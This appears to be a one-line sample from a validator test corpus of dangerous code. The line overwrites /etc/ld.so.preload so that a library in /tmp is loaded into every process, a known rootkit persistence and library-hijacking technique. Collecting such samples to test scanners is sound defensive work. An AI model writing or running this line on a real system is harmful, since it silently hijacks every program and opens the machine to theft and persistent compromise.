# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
open("/etc/ld.so.preload", "w").write("/tmp/libhook.so\n")
